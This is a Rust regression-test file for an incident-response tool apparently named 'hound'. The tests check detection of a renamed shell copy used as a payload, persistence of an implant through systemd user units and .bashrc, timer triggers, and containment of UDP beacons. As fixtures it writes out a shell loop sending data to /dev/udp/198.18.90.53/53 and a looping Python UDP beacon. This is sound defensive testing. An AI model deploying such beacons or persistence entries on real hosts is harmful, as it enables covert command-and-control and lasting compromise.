//! Regression tests for the `timer-udp` shape (a service account's
//! implant): a renamed copy of an interpreter is read as that
//! interpreter and is itself a payload; user units under a home outside
//! /home are persistence places; a timer that starts a disabled service
//! is disabled with it. Each on a small tree of its own, no root needed.

use crate::common::{ok_result, script_json};
use std::path::{Path, PathBuf};

fn tree() -> tempfile::TempDir {
    // Nowhere below a world-writable folder (a checkout under /tmp puts the
    // target dir there): a file in one is a payload for that alone, and
    // these tests are about other evidence.
    let open = |p: &Path| {
        p.ancestors().any(|a| {
            std::fs::metadata(a).is_ok_and(|m| {
                use std::os::unix::fs::PermissionsExt;
                m.permissions().mode() & 0o002 != 0
            })
        })
    };
    let home = std::env::var_os("HOME").map(|h| Path::new(&h).join(".cache"));
    let base = [Some(PathBuf::from(env!("CARGO_TARGET_TMPDIR"))), home]
        .into_iter()
        .flatten()
        .find(|b| std::fs::create_dir_all(b).is_ok() && !open(b))
        .expect("a folder with no world-writable parent (target dir or ~/.cache)");
    tempfile::Builder::new()
        .prefix("units-copies")
        .tempdir_in(base)
        .unwrap()
}

fn write(root: &Path, rel: &str, body: &str) -> PathBuf {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, body).unwrap();
    p
}

/// The shell the host runs scripts with, its symlinks followed.
fn shell() -> PathBuf {
    std::fs::canonicalize("/bin/sh").unwrap()
}

#[test]
fn a_renamed_copy_of_an_interpreter_is_read_as_one_and_tied() {
    let dir = tree();
    let root = dir.path();
    let exe = root.join("lib/reportd/report-indexer");
    std::fs::create_dir_all(exe.parent().unwrap()).unwrap();
    std::fs::copy(shell(), &exe).unwrap();
    let script = write(
        root,
        "lib/reportd/indexer.sh",
        "while :; do echo x > /dev/udp/198.18.90.53/53; sleep 3; done\n",
    );
    // The same copy under an interpreter's own name (a venv's python3) and
    // a binary that differs by one byte are not masquerades.
    let named = root.join("venv/bin/sh");
    std::fs::create_dir_all(named.parent().unwrap()).unwrap();
    std::fs::copy(shell(), &named).unwrap();
    let other = root.join("lib/other/report-indexer");
    std::fs::create_dir_all(other.parent().unwrap()).unwrap();
    let mut bytes = std::fs::read(shell()).unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    std::fs::write(&other, bytes).unwrap();
    let body = format!(
        r#"import "hound/detect" as d;
        let ctx = d::new_ctx(["198.18.90.53:53"]);
        let p = #{{ pid: 999999, ppid: 1, name: "report-indexer", exe: "{exe}", cmdline: ["{exe}", "{script}"], cwd: "/" }};
        let v = #{{ name: "sh", exe: "{named}", pid: 999998, ppid: 1, cmdline: ["sh"], cwd: "/" }};
        let o = #{{ name: "report-indexer", exe: "{other}", pid: 999997, ppid: 1, cmdline: ["{other}"], cwd: "/" }};
        #{{ copy: d::interpreter_copy(p, ctx), ties: d::tie_reasons(p, ctx).map(|t| `${{t.file}}: ${{t.reason}}`),
           venv: d::interpreter_copy(v, ctx), other: d::interpreter_copy(o, ctx), other_ties: d::tie_reasons(o, ctx).len() }}"#,
        exe = exe.display(),
        script = script.display(),
        named = named.display(),
        other = other.display(),
    );
    let r = ok_result(script_json(&body, ["--json"]));
    assert!(
        r["copy"].as_str().is_some_and(|c| Path::new(c) == shell()),
        "{r}"
    );
    let ties = r["ties"].to_string();
    assert!(
        ties.contains(&format!("{}: runs", exe.display())) && ties.contains("renamed copy"),
        "{r}"
    );
    assert!(
        ties.contains(&format!("{}: runs", script.display()))
            && ties.contains("names indicator 198.18.90.53"),
        "the copy's script is read as a script: {r}"
    );
    assert!(r["venv"].is_null(), "{r}");
    assert!(r["other"].is_null(), "{r}");
    assert_eq!(r["other_ties"], 0, "{r}");
}

#[test]
fn user_units_under_any_home_are_persistence_places() {
    let dir = tree();
    let root = dir.path();
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nsvc:x:1004:1004::/var/lib/svc/:/usr/sbin/nologin\nops:x:1005:1005::/home/ops:/bin/bash\n",
    );
    let implant = "/var/lib/svc/.local/lib/implant";
    let unit = write(
        root,
        "var/lib/svc/.config/systemd/user/indexer.service",
        &format!("[Service]\nExecStart={implant}\n"),
    );
    write(root, "var/lib/svc/.bashrc", &format!("{implant} &\n"));
    // User units spell their owner's home %h.
    let spelled = write(
        root,
        "var/lib/svc/.config/systemd/user/sync.service",
        "[Unit]\nDescription=x\n[Service]\nExecStart=%h/.local/lib/implant --quiet\n",
    );
    write(
        root,
        "home/ops/.config/systemd/user/notes.service",
        "[Service]\nExecStart=/usr/bin/python3 %h/.local/lib/implant-notes.py\n",
    );
    let body = format!(
        r#"import "hound/persistence" as per;
        #{{ hits: per::scan("{root}", ["{implant}"], false).map(|h| `${{h.place}} ${{h.path}}:${{h.line_no}}`) }}"#,
        root = root.display()
    );
    let r = ok_result(script_json(&body, ["--json"])).to_string();
    assert!(r.contains(&format!("systemd {}:2", unit.display())), "{r}");
    assert!(
        r.contains("profile ") && r.contains("var/lib/svc/.bashrc:1"),
        "{r}"
    );
    assert!(
        r.contains(&format!("systemd {}:4", spelled.display())),
        "%h is the owner's home: {r}"
    );
    assert!(!r.contains("notes.service"), "{r}");
}

#[test]
fn the_timers_that_start_a_service_are_found_by_name_or_unit() {
    let dir = tree();
    let root = dir.path();
    let sys = "etc/systemd/system";
    let svc = write(
        root,
        &format!("{sys}/cache.service"),
        "[Service]\nExecStart=/x\n",
    );
    let own = write(
        root,
        &format!("{sys}/cache.timer"),
        "[Timer]\nOnUnitActiveSec=5min\n",
    );
    let named = write(
        root,
        &format!("{sys}/nightly.timer"),
        "[Timer]\nOnCalendar=daily\nUnit = cache.service\n",
    );
    // Same stem but aimed elsewhere, and an unrelated timer: not triggers.
    write(
        root,
        &format!("{sys}/cache.path"),
        "[Path]\nPathChanged=/srv\nUnit=rebuild.service\n",
    );
    write(
        root,
        &format!("{sys}/mail.timer"),
        "[Timer]\nOnCalendar=daily\n",
    );
    let link = root.join(format!("{sys}/timers.target.wants/cache.timer"));
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(&own, &link).unwrap();
    let body = format!(
        r#"import "hound/remediate" as rem;
        let t = rem::triggers_of("{svc}").map(|x| x.path);
        t.sort();
        #{{ triggers: t, links: rem::wants_links("{own}") }}"#,
        svc = svc.display(),
        own = own.display()
    );
    let r = ok_result(script_json(&body, ["--json"]));
    let mut want = vec![own.display().to_string(), named.display().to_string()];
    want.sort();
    assert_eq!(r["triggers"], serde_json::json!(want), "{r}");
    assert_eq!(
        r["links"],
        serde_json::json!([link.display().to_string()]),
        "{r}"
    );
}

/// Two namespaces joined by a veth pair, 10.251.0.1 and the target
/// 10.251.0.53 (nothing listens there), and a Python beacon in the first
/// sending to the target's port 53 from `socket_code` every 0.2 s.
struct UdpShape {
    _beacon: crate::common::Reaped,
    ns: hound::host::netns::Netns,
    _far: hound::host::netns::Netns,
}

fn udp_shape(connect: bool) -> UdpShape {
    let tag = hound::host::netns::unique_tag();
    let ns = hound::host::netns::Netns::create(&format!("hd-udp-{tag}")).unwrap();
    let far = hound::host::netns::Netns::create(&format!("hd-udq-{tag}")).unwrap();
    hound::host::netns::veth(
        &ns,
        &format!("ua{tag}"),
        "10.251.0.1/24",
        &far,
        &format!("ub{tag}"),
        "10.251.0.53/24",
    )
    .unwrap();
    let send = if connect {
        "s.connect(T)\nsend=lambda: s.send(b'q')\n"
    } else {
        "send=lambda: s.sendto(b'q', T)\n"
    };
    let code = format!(
        "import socket,time\nT=('10.251.0.53',53)\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n{send}while True:\n    try: send()\n    except OSError: pass\n    time.sleep(0.2)\n"
    );
    let beacon = crate::common::spawn_in(&ns, &["python3", "-c", &code]);
    let t = std::time::Instant::now();
    let shows = if connect {
        "10.251.0.53:53"
    } else {
        "0.0.0.0:"
    };
    while !String::from_utf8_lossy(&ns.exec(&["ss", "-uanH"]).unwrap().stdout).contains(shows) {
        assert!(t.elapsed().as_secs() < 20, "the beacon's socket");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    UdpShape {
        _beacon: beacon,
        ns,
        _far: far,
    }
}

fn contain(ns: &hound::host::netns::Netns) -> serde_json::Value {
    let case = tempfile::tempdir().unwrap();
    let (status, lines) = crate::common::run_json_in(
        ns,
        [
            "--case",
            case.path().to_str().unwrap(),
            "--allow-destructive",
            "run",
            "contain",
            "-p",
            "targets=10.251.0.53",
            "-p",
            "verify_seconds=1",
        ],
    );
    assert!(status.code() != Some(2), "{lines:?}");
    let mut r = crate::common::result_of(&lines);
    r["findings"] = serde_json::Value::Array(
        lines
            .iter()
            .filter(|l| l["hound.type"] == "finding")
            .map(|l| serde_json::Value::String(format!("{} {}", l["title"], l["evidence"])))
            .collect(),
    );
    r
}

/// A datagram beacon holds one connected UDP socket for its life: it
/// makes no new attempt for the watch to see, but the block drops what it
/// sends, and containment must name it rather than say "by nothing".
#[test]
fn containment_names_the_holder_of_a_udp_socket_to_the_target() {
    crate::require_root!();
    crate::require_cmd!("nft");
    crate::require_cmd!("python3");
    let shape = udp_shape(true);
    let r = contain(&shape.ns);
    let summary = r["summary"].as_str().unwrap_or_default();
    assert!(
        summary.contains("by python") && summary.contains(" (pid "),
        "{r}"
    );
    assert_eq!(r["seen"][0]["proto"], "udp", "{r}");
    assert_eq!(r["established"], 0, "{r}");
    assert_eq!(r["findings"], serde_json::json!([]), "{r}");
}

/// One that sends from an unconnected socket (sendto) names no peer
/// anywhere: the dropped packets are reported, with the processes that
/// hold such a socket, for the responder to check.
#[test]
fn containment_reports_dropped_datagrams_no_socket_names() {
    crate::require_root!();
    crate::require_cmd!("nft");
    crate::require_cmd!("python3");
    let shape = udp_shape(false);
    let r = contain(&shape.ns);
    assert!(r["dropped_packets"].as_u64().unwrap_or(0) > 0, "{r}");
    let senders = r["unnamed_senders"].to_string();
    assert!(
        senders.contains("python") && senders.contains("udp 0.0.0.0:"),
        "{r}"
    );
    let findings = r["findings"].to_string();
    assert!(
        findings.contains("no socket names the destination") && findings.contains("sendto"),
        "{r}"
    );
}
